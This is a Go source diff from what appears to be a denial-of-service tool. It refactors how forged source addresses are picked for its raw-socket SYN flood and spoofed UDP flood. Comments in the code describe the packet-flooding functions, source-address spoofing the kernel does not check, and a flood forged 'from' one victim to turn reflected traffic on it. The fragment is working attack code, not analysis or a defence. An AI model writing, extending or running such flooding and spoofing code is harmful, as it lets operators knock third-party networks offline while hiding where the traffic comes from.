@@ -373,17 +373,23 @@ func udpFlood(ctx context.Context, a *Attack, c *counters) error {
 	})
 }
 
+// spoofRange is where forged sources come from: a.Spoof, or by default
+// anywhere (IPv4) or the global unicast range (IPv6).
+func spoofRange(a *Attack) netip.Prefix {
+	switch {
+	case a.Spoof.IsValid():
+		return a.Spoof
+	case a.Target.Is6():
+		return netip.MustParsePrefix("2000::/3")
+	}
+	return netip.MustParsePrefix("0.0.0.0/0")
+}
+
 // rawSYN sends SYNs through a raw IP socket: from random sources (SYN flood)
 // or from the attacker's own address to one port after the other (port scan).
 func rawSYN(ctx context.Context, a *Attack, c *counters) error {
 	v6 := a.Target.Is6()
-	spoof := a.Spoof
-	if !spoof.IsValid() {
-		spoof = netip.MustParsePrefix("0.0.0.0/0")
-		if v6 {
-			spoof = netip.MustParsePrefix("2000::/3")
-		}
-	}
+	spoof := spoofRange(a)
 	return threads(ctx, a, func(ctx context.Context, id int, p *pacer) error {
 		// IPPROTO_RAW implies IP_HDRINCL (and IPV6_HDRINCL): the packets
 		// carry their own source address, which the kernel does not check.
@@ -430,13 +436,7 @@ func rawSYN(ctx context.Context, a *Attack, c *counters) error {
 // source, so a forged flood "from" one victim costs a copy per datagram.
 func spoofedUDP(ctx context.Context, a *Attack, c *counters) error {
 	v6 := a.Target.Is6()
-	spoof := a.Spoof
-	if !spoof.IsValid() {
-		spoof = netip.MustParsePrefix("0.0.0.0/0")
-		if v6 {
-			spoof = netip.MustParsePrefix("2000::/3")
-		}
-	}
+	spoof := spoofRange(a)
 	return threads(ctx, a, func(ctx context.Context, id int, p *pacer) error {
 		s, err := newBatchSender(a.Target, unix.SOCK_RAW, unix.IPPROTO_RAW, 0)
 		if err != nil {
